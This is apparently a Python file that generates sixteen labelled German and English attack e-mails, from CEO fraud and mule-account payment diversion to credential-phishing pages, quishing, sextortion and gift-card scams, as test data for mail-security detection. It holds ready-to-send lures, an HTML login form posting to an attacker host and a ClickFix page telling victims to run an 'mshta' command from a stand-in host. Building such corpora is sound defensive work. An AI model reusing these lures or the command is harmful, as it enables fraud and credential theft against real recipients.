"""Attack messages 01-16 (German, English)."""
from common import *

MULE_LT = util.iban('LT', '32500' + '07429163058')
MULE_DE_REG = util.iban('DE', '76010085' + '0948271356')
BTC = util.bech32_addr('audit66-extortion-wallet')
MULE_GB = util.iban('GB', 'MONZ' + '040004' + '51873029')

MSGS = []
A = MSGS.append

# 01 ------------------------------------------------------------------ CEO fraud
A(M('de', 'ceo-fraud-vertrauliche-uebernahme', ('Jürgen Böhm', 'juergen.boehm@examplegroup-eu.com'), [who('cfo')],
    'Vertraulich – Projekt Alpenblick', T(2026, 10, 14, 8, 47), vps('mail.examplegroup-eu.com', '194.163.172.41', '185.220.101.37', mid='apple', ua='iPad Mail (22A3354)', rdns='vmi2231847.contaboserver.net'),
    text('''Frau Weiß,

haben Sie heute Vormittag ein paar Minuten für mich? Ich bin bis zum Nachmittag in Wien in Gesprächen und nur per Mail erreichbar.

Wir stehen kurz vor der Unterzeichnung zur Übernahme der Alpen-Catering GmbH (Innsbruck, 14 Betriebskantinen, 2 Schulküchen). Der Aufsichtsrat ist informiert, nach außen ist das Projekt bis zur Bekanntgabe am 2. November strikt vertraulich – bitte auch intern keine Rücksprache, auch nicht mit Herrn Müller oder der Buchhaltung.

Dr. Gerhard Lechner von der Kanzlei Lechner Hofbauer Rechtsanwälte begleitet die Transaktion und wird sich heute bei Ihnen melden. Für die Exklusivitätsvereinbarung ist eine Anzahlung von 248.600,00 EUR auf das Treuhandkonto der Kanzlei fällig, die Frist läuft heute um 15 Uhr ab. Er schickt Ihnen die Kontodaten und die Vereinbarung.

Bitte bestätigen Sie mir kurz, dass Sie das heute übernehmen können. Die Freigabe im System mache ich nachträglich, sobald ich zurück bin.

Danke Ihnen
Jürgen Böhm

Von meinem iPad gesendet''', cs='iso-8859-15', cte='quoted-printable'),
    'Look-alike domain examplegroup-eu.com (VPS at Contabo, Tor exit as submitting client) impersonates the CEO to the CFO: confidential acquisition, secrecy, lawyer will send trustee account, same-day deadline.',
    'Classic CEO fraud/BEC: sender domain is not examplegroup.eu, no internal relay hops, secrecy + urgency + bypass of approval ("Freigabe nachträglich"); sets up the fake-lawyer follow-up.',
    reply_to=('Jürgen Böhm', 'j.boehm@examplegroup-eu.com'), hcs='iso-8859-15'))

# 02 ------------------------------------------------------------------ supplier bank change
t2 = '''Sehr geehrte Frau Krüger,

im Zuge der Umstellung unseres Zahlungsverkehrs auf unsere neue Hausbank haben wir zum 19.10.2026 unsere Bankverbindung geändert. Die bisherige Verbindung bei der Sparkasse wird für Zahlungseingänge nicht mehr genutzt.

Bitte hinterlegen Sie ab sofort ausschließlich folgende Bankverbindung in Ihrem Kreditorenstamm (Kreditor 70112):

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: REVOLT21
Bank: Revolut Bank UAB

Die Bankbestätigung finden Sie im Anhang. Für die noch offenen Rechnungen RE-2026-10471 (18.342,17 EUR) und RE-2026-10502 (9.877,40 EUR) wäre es sehr hilfreich, wenn diese bereits mit Ihrem Zahllauf am Freitag auf das neue Konto überwiesen würden, damit es bei der Umstellung keine Rückläufer gibt.

Eine kurze Bestätigung der Umstellung per E-Mail genügt uns.

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung
Lieferant GmbH
Großmarkthalle, Schäftlarnstraße 10 · 81371 München
Tel. +49 89 7677 4410''' % util.fmt_iban(MULE_LT)
A(M('de', 'lieferant-bankverbindung-lookalike', ('Petra Lang', 'p.lang@lieferant-gmbh.com'), [who('ap')],
    'Änderung unserer Bankverbindung / offene Posten', T(2026, 10, 20, 10, 12), vps('mail.lieferant-gmbh.com', '91.215.85.142', '91.215.85.142', mid='outlook', rdns='vps-91-215-85-142.ip-host.eu'),
    multi('mixed', altpart(t2, 'windows-1252', 'quoted-printable'),
          pdfatt('Bankbestaetigung_Lieferant_GmbH.pdf', ['#Revolut Bank UAB', 'Konfirmation der Kontoverbindung', '', 'Kontoinhaber: Lieferant GmbH',
                 'IBAN: ' + util.fmt_iban(MULE_LT), 'BIC: REVOLT21', 'Ausstellungsdatum: 16.10.2026', '', 'Dieses Dokument wurde elektronisch erstellt und ist ohne Unterschrift gueltig.'])),
    'Look-alike lieferant-gmbh.com (real supplier is lieferant-gmbh.de) asks AP to switch supplier payments to a Lithuanian neobank IBAN and to pay two open invoices there on Friday.',
    'Vendor bank-detail fraud: wrong TLD, new foreign account in a fintech, only e-mail confirmation requested, pressure on current payment run. Hard negative: business 02.',
    cc=[('Stefan Maier', 's.maier@lieferant-gmbh.com')], hcs='windows-1252'))

# 03 ------------------------------------------------------------------ ELSTER via compromised WordPress
u3 = 'https://www.baeckerei-kranz.de/wp-content/uploads/2026/10/els/index.php?sid=8f41c2a7e0&m=a2F0cmluLndlaXNzQGV4YW1wbGUuY29t'
t3 = '''Sehr geehrte Damen und Herren,

das Softwarezertifikat Ihres ELSTER-Organisationszugangs (Steuernummer 143/227/40915, Example Group GmbH) läuft am 31.10.2026 ab. Nach Ablauf können Umsatzsteuer-Voranmeldungen und Lohnsteuer-Anmeldungen nicht mehr übermittelt werden; verspätete Anmeldungen können einen Verspätungszuschlag nach § 152 AO nach sich ziehen.

Die Verlängerung dauert etwa 3 Minuten:
%s

Bitte halten Sie Ihre bisherige Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.''' % u3
h3 = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=%CS%"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #d8d8d8"><tr><td style="background:#00205b;color:#fff;padding:14px 20px;font-size:20px;font-weight:bold">ELSTER &ndash; Ihr Online-Finanzamt</td></tr>
<tr><td style="padding:20px">
<p>Sehr geehrte Damen und Herren,</p>
<p>das Softwarezertifikat Ihres ELSTER-Organisationszugangs (Steuernummer 143/227/40915, Example Group GmbH) l&auml;uft am <b>31.10.2026</b> ab. Nach Ablauf k&ouml;nnen Umsatzsteuer-Voranmeldungen und Lohnsteuer-Anmeldungen nicht mehr &uuml;bermittelt werden; versp&auml;tete Anmeldungen k&ouml;nnen einen Versp&auml;tungszuschlag nach &sect; 152 AO nach sich ziehen.</p>
<p style="text-align:center;margin:28px 0"><a href="''' + u3 + '''" style="background:#00205b;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Zertifikat jetzt verl&auml;ngern</a></p>
<p>Bitte halten Sie Ihre bisherige Zertifikatsdatei (.pfx) und das zugeh&ouml;rige Passwort bereit.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr ELSTER-Team</p>
<p style="font-size:11px;color:#777">Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</p>
</td></tr></table></body></html>
'''
A(M('de', 'elster-zertifikat-wordpress', ('ELSTER Benachrichtigung', 'info@baeckerei-kranz.de'), [who('cfo')],
    'Ihr ELSTER-Zertifikat läuft am 31.10.2026 ab – Verlängerung erforderlich', T(2026, 10, 22, 6, 3),
    vps('wp1127.webpack.hosteurope.de', '80.237.133.71', '80.237.133.71', mid='php', rdns='wp1127.webpack.hosteurope.de', helo='wp1127.webpack.hosteurope.de'),
    altpart(t3, 'utf-8', 'quoted-printable', htm=h3),
    'Fake ELSTER (German tax portal) certificate-expiry notice sent by PHPMailer from a compromised bakery WordPress site; link to a kit under wp-content/uploads asking for the .pfx file and its password.',
    'Credential/certificate theft: ELSTER never mails from third-party domains, landing page on an unrelated hacked site, asks for certificate file + PIN, penalty pressure.'))

# 04 ------------------------------------------------------------------ e-invoice HTML attachment
h4 = '''<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>E-Rechnung anzeigen</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.box{width:420px;margin:60px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}</style></head>
<body><div class="box"><img alt="Microsoft" src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" width="108">
<h2>Anmelden</h2><p>Die Datei <b>XRechnung_RE-2026-10893.xml</b> (Lieferant GmbH) ist gesch&uuml;tzt. Melden Sie sich mit Ihrem Gesch&auml;ftskonto an, um die E-Rechnung anzuzeigen.</p>
<form method="post" action="https://erechnung-viewer.azurewebsites.net.invoice-docs.top/auth/m365.php">
<input type="email" name="login" value="sabine.krueger@example.com"><input type="password" name="passwd" placeholder="Kennwort">
<button type="submit">Anmelden</button></form></div>
<!-- inert test corpus: no script --></body></html>
'''
t4 = '''Guten Tag,

über das Rechnungsportal wurde eine neue E-Rechnung für Sie bereitgestellt.

Rechnungssteller: Lieferant GmbH
Rechnungsnummer: RE-2026-10893
Rechnungsdatum: 26.10.2026
Betrag: 27.604,88 EUR
Format: XRechnung 3.0.2 (UBL)

Die Rechnung und die Visualisierung finden Sie im Anhang. Gemäß § 14 UStG sind Sie seit dem 01.01.2025 zum Empfang elektronischer Rechnungen verpflichtet.

Ihr E-Rechnungsportal'''
A(M('de', 'xrechnung-html-anhang-sendgrid', ('E-Rechnungsportal', 'noreply@erechnung-zustellung.de'), [who('ap')],
    'Neue E-Rechnung RE-2026-10893 von Lieferant GmbH', T(2026, 10, 27, 7, 31), esp('sendgrid'),
    multi('mixed', text(t4, 'plain', 'iso-8859-1', 'quoted-printable'), att(h4.encode(), 'text/html', 'XRechnung_RE-2026-10893.html')),
    'E-invoice notification (topical since the 2025 German B2B e-invoicing mandate) via SendGrid naming the real supplier; the "visualisation" is an HTML attachment with a Microsoft 365 login form pre-filled with the victim address, posting to an attacker host.',
    'HTML-attachment credential phishing: XRechnung is XML, never an HTML login page; form posts to invoice-docs.top; sender domain unrelated to the supplier. Hard negative: business 01.'))

# 05 ------------------------------------------------------------------ quishing MFA
qr5 = qr_png('https://exgrp-mfa.com/r/?u=bW9uaWthLnNjaGFlZmVyQGV4YW1wbGUuY29t&t=8F3KQ2')
t5 = '''Hallo Frau Schäfer,

im Rahmen der Umstellung auf die neuen Sicherheitsrichtlinien (Microsoft Entra ID) müssen alle Mitarbeitenden mit Zugriff auf Lohn- und Personaldaten ihre Anmeldung per Microsoft Authenticator bis Freitag, 06.11.2026, neu registrieren. Nicht erneuerte Konten werden am Montag automatisch gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den QR-Code im Anhang dieser Nachricht.
3. Melden Sie sich mit Ihrem gewohnten Kennwort an und bestätigen Sie die Anfrage.

Die Registrierung dauert weniger als zwei Minuten. Aus Sicherheitsgründen funktioniert der Code nur auf dem Mobilgerät.

Vielen Dank für Ihre Unterstützung
IT-Service Example Group'''
h5 = htmlize(t5).replace('</div>', '<p><img src="cid:mfa-qr@exgrp" width="185" height="185" alt="QR"></p>\n</div>')
A(M('de', 'quishing-mfa-neuregistrierung', ('IT-Service Example Group', 'it-service@exgrp365.onmicrosoft.com'), [who('hr')],
    'Pflichtaktion: MFA-Neuregistrierung bis 06.11.2026', T(2026, 11, 2, 9, 4), o365(lang='de-DE', region='eurprd03', obe='EUR03-DBA'),
    multi('related', alt(text(t5, 'plain', 'iso-8859-15', 'quoted-printable'), html(h5.replace('%CS%', 'iso-8859-15'), 'iso-8859-15', 'quoted-printable')),
          att(qr5, 'image/png', 'MFA_Registrierung.png', inline=True, cid='mfa-qr@exgrp'), type='multipart/alternative'),
    'Quishing: "IT-Service" from a throw-away Microsoft 365 trial tenant (exgrp365.onmicrosoft.com) tells HR to re-register MFA by scanning an inline QR code that decodes to exgrp-mfa.com with the victim address base64-encoded.',
    'QR code moves the phishing URL to the phone, outside the gateway; external onmicrosoft.com sender posing as internal IT; lockout threat. Hard negative: business 07 (genuine IT notice via internal relay).'))

# 06 ------------------------------------------------------------------ thread hijack, encrypted zip
quoted6 = '''Von: Markus Vogel <markus.vogel@example.com>
Gesendet: Donnerstag, 29. Oktober 2026 14:02
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: Bestellung KW 45 - Zentralküche Garching

Hallo Herr Maier,

anbei unsere Bestellung für KW 45 (Lieferung Montag 6 Uhr, Rampe 2). Bitte bei den Tiefkühl-Positionen wieder die Chargennummern auf dem Lieferschein angeben.

Danke und Gruß
Markus Vogel
Einkauf | Example Group'''
t6 = '''Hallo Herr Vogel,

anbei wie besprochen die korrigierte Rechnung inkl. Lieferschein zur KW 45. Aus Datenschutzgründen ist das Archiv verschlüsselt, Passwort: LG4512

Bitte kurz prüfen und an die Buchhaltung weitergeben.

Viele Grüße
Stefan Maier
Key Account Gastronomie
Lieferant GmbH

''' + quote(quoted6)
z6 = util.zip_crypto([('Rechnung_Lieferschein_KW45.pdf.lnk', util.PLACEHOLDER)], 'LG4512', 'a06')
A(M('de', 'thread-hijack-lieferant-zip-passwort', ('Stefan Maier', 's.maier@lieferant-gmbh.de'), [who('proc')],
    'AW: Bestellung KW 45 - Zentralküche Garching', T(2026, 11, 3, 11, 26), o365(lang='de-DE', region='eurprd04', obe='EUR04-DB3'),
    multi('mixed', text(t6, 'plain', 'iso-8859-1', 'quoted-printable'), att(z6, 'application/x-zip-compressed', 'Rechnung_KW45.zip')),
    'Reply in a real order thread from the genuinely compromised mailbox of the supplier contact (sent through the supplier\'s own Microsoft 365), attaching a ZipCrypto archive whose only file is a .pdf.lnk; password in the body.',
    'Thread hijack: authentic infrastructure, but suppliers do not send encrypted ZIPs with shortcut files; password in the same mail to defeat scanning; double extension .pdf.lnk. Hard negative: business 01.',
    irt='<AM9PR07MB51824A7C0E6F1D3B2A9C8E17@AM9PR07MB5182.eurprd07.prod.outlook.com>', hcs='iso-8859-1'))

# 07 ------------------------------------------------------------------ fake register offer
t7 = '''Sehr geehrte Damen und Herren,

für die Aktualisierung Ihres Eintrags im Bundesverzeichnis Gemeinschaftsverpflegung & Gastronomie (BVGG) benötigen wir Ihre Bestätigung der nachstehenden Firmendaten:

Firma: Example Group GmbH
Anschrift: Landsberger Straße 302, 80687 München
Registergericht: Amtsgericht München, HRB 218 447
Branche: Gemeinschaftsverpflegung / Systemgastronomie

Bitte prüfen Sie die Angaben im beigefügten Formular, ergänzen Sie gegebenenfalls fehlende Daten und senden Sie es unterschrieben per E-Mail zurück. Nach Eingang wird Ihr Eintrag innerhalb von 5 Werktagen veröffentlicht.

Mit freundlichen Grüßen
Datenerfassung BVGG
Register- und Verlagsservice Schneider UG (haftungsbeschränkt)'''
pdf7 = ['#Bundesverzeichnis Gemeinschaftsverpflegung & Gastronomie', 'Eintragungsantrag / Korrekturabzug Nr. 2026-88417', '',
        'Firma: Example Group GmbH', 'Landsberger Strasse 302, 80687 Muenchen', 'HRB 218 447, Amtsgericht Muenchen', '',
        'Bitte Angaben pruefen, unterschreiben und zuruecksenden.', '', 'Unterschrift / Firmenstempel: ______________________', '', '', '',
        'Mit der Unterschrift wird ein Eintrag im Premium-Verzeichnis zum Jahrespreis von 1.189,00 EUR zzgl. MwSt.',
        'beauftragt. Mindestlaufzeit 3 Jahre, jaehrliche Vorauszahlung, Verlaengerung um jeweils 1 Jahr, sofern nicht',
        '3 Monate vor Ablauf schriftlich gekuendigt wird. Zahlbar binnen 10 Tagen auf:',
        'IBAN ' + util.fmt_iban(MULE_DE_REG) + '  Verwendungszweck 2026-88417', 'Gerichtsstand Hamburg.']
A(M('de', 'fake-registereintrag-mailgun', ('BVGG Datenerfassung', 'eintrag@bvgg-verzeichnis.de'), [who('assist')],
    'Aktualisierung Ihres Eintrags – Example Group GmbH (Vorgang 2026-88417)', T(2026, 11, 10, 13, 40), esp('mailgun'),
    multi('mixed', text(t7, 'plain', 'utf-8', 'base64'), pdfatt('Korrekturabzug_2026-88417.pdf', pdf7)),
    'Directory/register scam: looks like a free data correction for an official-sounding federal register of canteens; the PDF small print makes the signature a 3-year paid contract (1,189 EUR/year).',
    'Fake register offer: no such official register, contract terms hidden at the bottom of a "Korrekturabzug", private UG behind it, bulk mail via Mailgun.'))

# 08 ------------------------------------------------------------------ ClickFix via complaint
h8 = '''<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Dokumentenansicht - Sicherheitspr&uuml;fung</title>
<style>body{font-family:Arial,sans-serif;background:#fafafa}.c{width:520px;margin:70px auto;background:#fff;border:1px solid #ddd;padding:30px}
code{display:block;background:#f1f1f1;padding:10px;font-size:12px;word-break:break-all}</style></head>
<body><div class="c"><h3>&#9745; Best&auml;tigen Sie, dass Sie ein Mensch sind</h3>
<p>Die Dateien <b>IMG_4471.jpg, IMG_4472.jpg, Arztbrief.pdf</b> sind durch Cloud-Schutz gesichert. Zur Verifizierung f&uuml;hren Sie bitte folgende Schritte aus:</p>
<ol><li>Dr&uuml;cken Sie <b>Windows-Taste + R</b></li><li>Geben Sie den unten stehenden Pr&uuml;fcode ein (oder kopieren Sie ihn)</li><li>Dr&uuml;cken Sie <b>Enter</b></li></ol>
<code>mshta https://verify-cdn-docs.top/cf/ch?id=7741-DE # &#10004; Ich bin kein Roboter - Cloudflare Verifizierungs-ID: 7741</code>
<p style="color:#888;font-size:11px">Ray ID: 8d2f4e1a7c90b3e5 &middot; Leistung und Sicherheit durch Cloudflare</p></div>
<!-- inert test corpus: no script --></body></html>
'''
t8 = '''Sehr geehrte Frau Neumann,

ich bin Personalreferentin bei einem Ihrer Kantinenkunden und habe am 6.11. die Weihnachtsfeier unseres Vertriebs mit 60 Personen bei Ihnen gebucht. Seit Samstag sind mindestens elf Kolleginnen und Kollegen mit Magen-Darm-Beschwerden krankgeschrieben, zwei waren in der Notaufnahme. Alle haben vom Lachs-Buffet gegessen.

Ich habe Fotos vom Buffet, die Rechnung und den Arztbrief einer Kollegin zusammengestellt (Anhang). Bevor wir das Gesundheitsamt einschalten, möchte ich Ihnen die Gelegenheit zur Stellungnahme geben – bitte bis Mittwoch.

Mit freundlichen Grüßen
Sandra Köhler'''
A(M('de', 'clickfix-beschwerde-lebensmittelvergiftung', ('Sandra Köhler', 'sandra.koehler.hr1987@gmail.com'), [who('sales')],
    'Beschwerde – Erkrankungen nach Firmenfeier am 06.11.', T(2026, 11, 9, 19, 52), gmail(),
    multi('mixed', altpart(t8, 'utf-8', 'quoted-printable'), att(h8.encode(), 'text/html', 'Beschwerde_Fotos_Arztbrief.html')),
    'Food-poisoning complaint lure (restaurant-trade specific) from Gmail; the "photos" are an HTML attachment that shows a fake Cloudflare check instructing the user to press Win+R and run an mshta command (ClickFix).',
    'ClickFix: user is coached into executing a remote HTA; no real customer would send a "verification" page instead of photos; anonymous Gmail, unnamed company. Hard negative: business 05 (genuine parent complaint).'))

# 09 ------------------------------------------------------------------ DocuSign SVG from compromised accountant
svg9 = '''<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="360" viewBox="0 0 600 360">
<rect width="600" height="360" fill="#ffffff"/><rect width="600" height="70" fill="#1e1e1e"/>
<text x="24" y="44" font-family="Arial" font-size="26" fill="#ffcc22" font-weight="bold">DocuSign</text>
<text x="24" y="120" font-family="Arial" font-size="17" fill="#333">Catering_Services_Agreement_2027.pdf</text>
<text x="24" y="150" font-family="Arial" font-size="13" fill="#666">Sent by Bramley &amp; Co Accountants - 3 pages - awaiting your signature</text>
<a xlink:href="https://docusign-envelope.secure-sign.click/e/?id=9f2c41ab&amp;r=b2xpdmVyLmJlbm5ldHRAZXhhbXBsZS5jb20" target="_blank">
<rect x="24" y="190" width="230" height="46" rx="3" fill="#ffcc22"/>
<text x="52" y="220" font-family="Arial" font-size="16" fill="#1e1e1e" font-weight="bold">REVIEW DOCUMENT</text></a>
<!-- inert test corpus: script removed --></svg>
'''
t9 = '''Bramley & Co Accountants sent you a document to review and sign.

Catering Services Agreement 2027 - Example Group UK Ltd

Please open the attached secure document to review and sign. The link expires in 48 hours.

Kind regards,
Jonathan Bramley ACA
Bramley & Co Accountants
14 Deansgate, Manchester M3 2BW'''
A(M('en', 'docusign-svg-compromised-accountant', ('Jonathan Bramley via DocuSign', 'jonathan@bramleyaccountants.co.uk'), [who('uk_mgr')],
    'Please DocuSign: Catering Services Agreement 2027', T(2026, 10, 15, 14, 18, tz='UK'), o365(lang='en-GB', region='eurprd02', obe='EUR02-VI1'),
    multi('mixed', altpart(t9, 'us-ascii', '7bit'), att(svg9.encode(), 'image/svg+xml', 'Catering_Services_Agreement_2027.svg')),
    'DocuSign-branded lure from the Microsoft 365 mailbox of a small Manchester accounting firm (compromised); the "document" is an SVG image with a link to a credential page, victim address base64-encoded in the URL.',
    'SVG attachment phishing: DocuSign envelopes come from docusign.net with an access code, never as SVG files; accountant has no reason to send a catering contract. Hard negative: business 09.', tz='UK'))

# 10 ------------------------------------------------------------------ HMRC VAT repayment via SES
u10 = 'https://gateway-hmrc.tax-services-online.uk/vat/repayment/confirm?ref=XK4829301'
t10 = '''HM Revenue & Customs

VAT repayment - period 09 26

Dear Customer,

We have reviewed your VAT return for the period ended 30 September 2026 (VRN GB 318 4725 06) and a repayment of £3,418.60 is due to EXAMPLE GROUP UK LTD.

The bank account held on our records could not be verified by your bank. To avoid the repayment being held, please confirm your repayment bank details within 5 working days:

%s

You will need your Government Gateway user ID and password.

Yours faithfully,
VAT Repayments Team
HM Revenue & Customs''' % u10
A(M('en', 'hmrc-vat-repayment-ses', ('HMRC VAT Repayments', 'no-reply@hmrc-repayments.co.uk'), [who('uk_acc')],
    'VAT repayment held - action required (VRN ending 4725 06)', T(2026, 10, 19, 9, 2), esp('ses'),
    altpart(t10, 'windows-1252', 'quoted-printable'),
    'HMRC impersonation via Amazon SES from a look-alike domain: VAT repayment "held", confirm bank details with Government Gateway credentials.',
    'Government Gateway credential phishing: HMRC does not e-mail refund links, domain is not gov.uk, URL on tax-services-online.uk, deadline pressure.'))

# 11 ------------------------------------------------------------------ callback phishing
t11 = '''Dear Customer,

Thank you for renewing your subscription. Your account has been charged as below.

Invoice no: GS/UK/882914
Product: Geek Squad Total Protection - 3 devices (24 months)
Amount: £489.99
Payment method: Auto-debit
Date: 21/10/2026

If you did not authorise this renewal or wish to cancel and receive a refund, please call our billing department within 24 hours on +44 20 3890 7714 (Mon-Sun 8am-10pm).

Regards,
Billing Department'''
pdf11 = ['#INVOICE GS/UK/882914', 'Geek Squad Total Protection - 3 devices (24 months)', 'Amount charged: GBP 489.99',
         'Date: 21/10/2026', '', 'To cancel or dispute this charge call +44 20 3890 7714 within 24 hours.',
         'Refunds are only processed by phone.']
A(M('en', 'callback-phishing-renewal-invoice', ('Billing Support', 'billing.dept.invoice4012@gmail.com'), [who('uk_mgr')],
    'Your renewal is confirmed - Invoice GS/UK/882914', T(2026, 10, 21, 16, 44), gmail(),
    multi('mixed', text(t11, 'plain', 'utf-8', '8bit'), pdfatt('Invoice_GS_UK_882914.pdf', pdf11)),
    'Callback phishing (TOAD): fake auto-renewal invoice for a consumer tech-support plan from a Gmail address; only action is to phone a number, where the victim is talked into installing remote-access tools.',
    'No link or malware for a filter to find, only a phone number; brand mismatch with a Gmail sender; nobody at the company bought this.'))

# 12 ------------------------------------------------------------------ Teams / Quick Assist vishing pretext
t12 = '''Hi Sarah,

Our monitoring shows an unusual volume of newsletter and spam sign-ups hitting your mailbox since this morning (ticket INC0048213). This pattern is often used to hide a genuine security alert, so we have escalated it to our Microsoft support partner.

An engineer will contact you in the next 30 minutes via Microsoft Teams. The chat will show as "Help Desk | Example Group" (external). Please accept the chat request and follow the engineer's instructions - they may ask you to start Quick Assist so they can apply the filter rules directly on your laptop.

Please do not reboot your laptop in the meantime.

Kind regards
Example Group IT Service Desk'''
A(M('en', 'teams-quick-assist-pretext-brevo', ('Example Group IT Service Desk', 'servicedesk@examplegroup-it.com'), [who('uk_acc')],
    'INC0048213 - spam flood on your mailbox', T(2026, 11, 4, 10, 7, tz='UK'), esp('brevo'),
    altpart(t12, 'us-ascii', '7bit'),
    'Pretext mail for a Teams vishing call after an e-mail bombing: look-alike IT service desk domain, sent via Brevo, tells the user to accept an external Teams chat and start Quick Assist.',
    'Remote-access social engineering (Storm-1811/Black Basta style): real IT uses the internal relay, never asks users to accept external Teams chats or Quick Assist. Hard negative: business 15 (genuine IT warning).',
    tz='UK'))

# 13 ------------------------------------------------------------------ device code phishing
t13 = '''Hi Oliver,

Following our call, I have shared the revised tender pack for the staff restaurant contract (menus, TUPE list and pricing schedule) through our secure Microsoft portal.

To open it:
1. Go to https://microsoft.com/devicelogin
2. Enter the code: HK7B-9QXL
3. Sign in with your Example Group Microsoft 365 account.

The code is valid for 15 minutes, so please use it straight away - just reply if it expires and I'll send a new one.

Many thanks
Daniel Reeves
Facilities Manager
North West Facilities Services Ltd'''
A(M('en', 'device-code-phishing-tender-pack', ('Daniel Reeves', 'd.reeves@nwfacilities.co.uk'), [who('uk_mgr')],
    'Tender pack - staff restaurant contract (secure share)', T(2026, 11, 12, 11, 55, tz='UK'), o365(lang='en-GB', region='eurprd08', obe='EUR05-AM6'),
    altpart(t13, 'utf-8', 'quoted-printable'),
    'Device-code phishing from the compromised Microsoft 365 mailbox of a facilities company: victim is asked to enter an attacker-generated code at the genuine microsoft.com/devicelogin, which grants the attacker tokens.',
    'OAuth device-code flow abuse: the only URL is legitimate, so URL reputation passes; a document share never needs a device code; 15-minute urgency. Hard negative: business 10.',
    tz='UK'))

# 14 ------------------------------------------------------------------ payroll diversion
t14 = '''Hi Monika,

Hope you're well. I've changed banks and would like my salary to go into my new account from the November payroll onwards:

Account name: Sarah Collins
Sort code: 04-00-04
Account number: 51873029
IBAN: %s

Could you confirm once it's updated? I'm out at the Salford site most of this week, so email is easiest.

Thanks so much
Sarah

Sent from my iPhone''' % util.fmt_iban(MULE_GB)
A(M('en', 'payroll-diversion-private-gmail', ('Sarah Collins', 'sarahcollins.mcr@gmail.com'), [who('hr')],
    'Bank details change', T(2026, 11, 16, 7, 38), gmail(ios=True),
    text(t14, 'plain', 'utf-8', 'quoted-printable'),
    'Payroll diversion: impersonates the UK accountant from a fresh Gmail address and asks HR to redirect her salary to a new account before the November run.',
    'Private address never used by her before, avoids phone contact, timed before payroll cut-off; bank changes must go through the HR portal. Hard negatives: business 06 and 14 (genuine private-mail notes).'))

# 15 ------------------------------------------------------------------ extortion
t15 = '''Hello Oliver,

I have to share bad news with you. Some months ago I gained access to the devices you use for browsing the internet. After that I started tracking your activity.

Your account oliver.bennett@example.com was compromised - I sent you this message from it, so you can see I have access.

I recorded you with your webcam while you were visiting adult websites and I have a copy of all your contacts, including colleagues at Example Group. With one click I can send this video to all of them.

If you want me to delete everything, transfer 1450 USD in Bitcoin to this wallet:
%s

You have 48 hours after opening this email. I can see when you read it. Do not reply, this address is not monitored. Do not go to the police - I will know.''' % BTC
A(M('en', 'sextortion-bitcoin-spoofed-self', ('Oliver Bennett', 'oliver.bennett@example.com'), [who('uk_mgr')],
    'Your account has been compromised - 48h', T(2026, 11, 18, 3, 12), vps('srv-91-92-245-18', '91.92.245.18', '91.92.245.18', mid='generic', rdns='unknown', helo='WIN-8RJ3QGH1S0L', tz='UTC'),
    text(t15, 'plain', 'us-ascii', '7bit'),
    'Sextortion with the recipient\'s own address forged in From (sent from a bare VPS with Windows HELO, no reverse DNS) demanding Bitcoin to a valid bech32 address.',
    'Extortion scam: spoofed own address as "proof", no actual compromise, BTC demand and 48h deadline.',
    msgid='<2b7a91f0c4e36d85a1b9@example.com>', rp='oliver.bennett@example.com', tz='UTC'))

# 16 ------------------------------------------------------------------ gift cards
t16 = '''Hi Oliver,

Are you at your desk? I need a quick favour, I'm tied up in the budget meeting and can't take calls.

I'd like to surprise the Manchester kitchen team with Christmas gift cards. Please pick up 10 Apple gift cards at £100 each on your way (Tesco or Argos), scratch the backs and send me clear photos of the codes here. You can claim it back on expenses with me as approver.

Keep it between us for now, I want it to be a surprise.

Thanks
Jürgen'''
A(M('en', 'ceo-gift-cards-gmail', ('Jürgen Böhm', 'jboehm.ceo.office@gmail.com'), [who('uk_mgr')],
    'Quick favour', T(2026, 12, 9, 10, 21), gmail(ios=True),
    text(t16, 'plain', 'iso-8859-1', 'quoted-printable'),
    'CEO impersonation from Gmail asking the UK office manager to buy Apple gift cards and send photos of the codes.',
    'Gift-card scam: CEO would never use Gmail or ask for scratched codes; secrecy, "can\'t take calls".',
    hcs='iso-8859-1'))
